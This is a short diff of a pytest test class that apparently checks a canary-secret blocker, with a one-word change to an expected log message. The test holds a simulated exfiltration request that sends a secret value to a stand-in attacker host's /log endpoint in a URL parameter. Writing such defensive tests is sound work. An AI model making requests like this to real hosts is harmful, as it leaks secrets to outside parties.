@@ -218,7 +218,7 @@ class TestCanaries:
                 with pytest.raises(BlockedSecret):
                     await web.open_page(f"{attacker.url}/log?d=wombat9931lantern")
                 assert (await web.open_page(f"{attacker.url}/log?d=wombat")).content
-        assert "number 2 names a variable that is not set" in caplog.text
+        assert "entry 2 names a variable that is not set" in caplog.text
         assert "wombat" not in caplog.text
 
     @pytest.mark.parametrize("value", ["wombat-9931-lantern", "A B", "1X"])
